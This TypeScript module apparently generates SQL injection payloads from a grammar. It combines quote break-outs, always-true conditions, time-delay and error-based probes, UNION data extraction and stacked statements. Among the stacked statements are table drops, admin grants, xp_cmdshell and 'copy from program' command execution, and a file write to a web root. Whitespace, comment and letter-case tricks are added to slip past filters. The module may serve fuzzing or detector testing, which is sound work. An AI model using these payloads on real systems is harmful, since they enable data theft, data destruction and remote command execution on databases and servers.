// SQL injection by the grammar of dialects: what the value stands in, what breaks out of it, what goes on behind, and
// how the words are parted and spelt.

import type { Random } from './random.ts'

type Make = (random: Random) => string

const number: Make = (r) => String(1 + r.below(9999))

const table: Make = (r) => r.pick(['users', 'accounts', 'orders', 'members'])

const column: Make = (r) => r.pick(['password', 'email', 'id', 'token'])

interface Opening {
  readonly text: string
  readonly quote: string
}

const opening = (r: Random): Opening => {
  const brackets = r.pick(['', '', '', ')', '))'])
  if (r.chance(0.35)) return { text: `${r.pick(['', '-'])}${number(r)}${brackets}`, quote: '' }
  const quote = r.pick(["'", "'", '"'])
  return { text: `${r.pick(['', 'x', 'admin', number(r)])}${quote}${brackets}`, quote }
}

const hiding: Make = (r) => r.pick(['--', '-- -', '#', '-- x', '/*', ';--', ';#', '%23', ' -- -'])

const GAPS = [
  '/**/',
  '\t',
  '\n',
  '%0b',
  '%0c',
  '%a0',
  '%09',
  '/*x*/',
  '/*!*/',
  '/*!50000*/',
  '--x%0a',
  '%23x%0a',
  '-- x\n',
]

const parted = (r: Random, text: string): string =>
  r.chance(0.5) ? text : text.replaceAll(' ', r.pick(GAPS))

const cased = (r: Random, text: string): string =>
  r.chance(0.5)
    ? text
    : text.replaceAll(
        /\b(?:select|union|or|and|from|where|order|by|having|like|not|null|sleep|all)\b/g,
        (word) =>
          word
            .split('')
            .map((letter) => (r.chance(0.5) ? letter.toUpperCase() : letter))
            .join(''),
      )

const logic: Make = (r) => r.pick(['or', 'and', '||', '&&', 'xor', 'or not'])

const truth: Make = (r) => {
  const n = number(r)
  return r.pick([
    `${n}=${n}`,
    `${n} like ${n}`,
    `${n} between 0 and 99999`,
    `${n} in (1,${n})`,
    'not false',
    'null is null',
    '1 <=> 1',
    'not 1&1',
    `${column(r)} is not null`,
    `length(${column(r)})>0`,
    `exists(select * from ${table(r)})`,
    `(select count(*) from ${table(r)})>0`,
    'ascii(substr(user(),1,1))>64',
    'case when 1=1 then 1 else 0 end',
    "json_extract('{}','$')=1",
    '\'{"a":1}\'::jsonb @> \'{"a":1}\'',
    'row(1,1)=row(1,1)',
    'not(1=2)',
  ])
}

const wait: Make = (r) =>
  r.pick([
    'sleep(5)',
    '(select sleep(5))',
    'if(1=1,sleep(5),0)',
    "benchmark(5000000,md5('a'))",
    '(select(0)from(select(sleep(5)))v)',
    '1=(select 1 from pg_sleep(5))',
    '1=dbms_pipe.receive_message(chr(65),5)',
    'elt(1=1,sleep(5))',
    '1=sleep(5)',
  ])

const failure: Make = (r) =>
  r.pick([
    'extractvalue(1,concat(0x7e,version()))',
    'updatexml(1,concat(0x7e,(select user())),1)',
    '1=cast((select version()) as int)',
    '1=convert(int,@@version)',
    '1=ctxsys.drithsx.sn(1,(select user from dual))',
    'bin_to_uuid(user())',
    'polygon((select * from(select * from(select user())a)b))',
    'version()::int=1',
    '1=(select top 1 name from sysobjects)',
  ])

const union: Make = (r) =>
  r.pick([
    `union select ${column(r)},null from ${table(r)}`,
    'union all select null,null,null',
    'union(select(1),(2))',
    'union values (1,2)',
    'union values row(1,2)',
    `union distinct select ${column(r)} from information_schema.tables`,
    `except select ${column(r)} from ${table(r)}`,
    '/*!50000union*/ /*!50000select*/ 1,2',
    'union select@a,2',
    'union select{x 1},2',
  ])

const statement: Make = (r) =>
  r.pick([
    `drop table ${table(r)}`,
    `insert into ${table(r)} values (1,'a')`,
    `update ${table(r)} set role='admin'`,
    "exec xp_cmdshell 'dir'",
    "waitfor delay '0:0:5'",
    'select pg_sleep(5)',
    '(select 1)',
    'commit',
    'show warnings',
    'grant dba to x',
    'with x as (select 1) select * from x',
    'create or replace function f() returns int as 1',
    'create trigger t after insert on x begin end',
    "alter system set x='y'",
    'merge into x using y on (1=1)',
    "copy x from program 'id'",
    'notify x',
  ])

const clause: Make = (r) =>
  r.pick([
    `order by ${1 + r.below(50)}`,
    'order by sleep(5)',
    'order by case when 1=1 then 1 else 2 end',
    `group by ${column(r)} having 1=1`,
    'having 1=1',
    'limit 0,1',
    'limit 1 procedure analyse()',
    "into outfile '/var/www/x.php'",
    'into @a',
    'fetch first 1 rows only',
  ])

const joined = (r: Random, { text }: Opening, body: string, end: string): string =>
  `${text}${parted(r, ` ${cased(r, body)}`)}${end}`

export const queries: Readonly<Record<string, Make>> = {
  'sql: conditions': (r) => joined(r, opening(r), `${logic(r)} ${truth(r)}`, hiding(r)),
  'sql: time': (r) => joined(r, opening(r), `${r.pick(['or', 'and', '||'])} ${wait(r)}`, hiding(r)),
  'sql: errors': (r) => joined(r, opening(r), `${r.pick(['or', 'and', '||'])} ${failure(r)}`, hiding(r)),
  'sql: unions': (r) => joined(r, opening(r), union(r), r.pick([hiding(r), ''])),
  'sql: statements': (r) =>
    `${opening(r).text};${parted(r, ` ${cased(r, statement(r))}`)}${r.pick([hiding(r), ';'])}`,
  'sql: clauses': (r) => joined(r, opening(r), clause(r), hiding(r)),
  'sql: values': (r) => {
    const quote = r.pick(["'", '"'])
    return r.pick([
      `x${quote},${quote}admin${quote})${r.pick(['--', '#', '-- -'])}`,
      `x${quote},(select ${column(r)} from ${table(r)} limit 1))-- ${number(r)}`,
      `x${quote},is_admin=${number(r)}#`,
      `x${quote}||(select version())||${quote}`,
      `x${quote} on duplicate key update ${column(r)}=${number(r)}--`,
      `x${quote} returning *--`,
      `${quote}+${number(r)}=sleep(5)-${quote}`,
      `${column(r)} desc,extractvalue(1,concat(1,user()))`,
    ])
  },
}
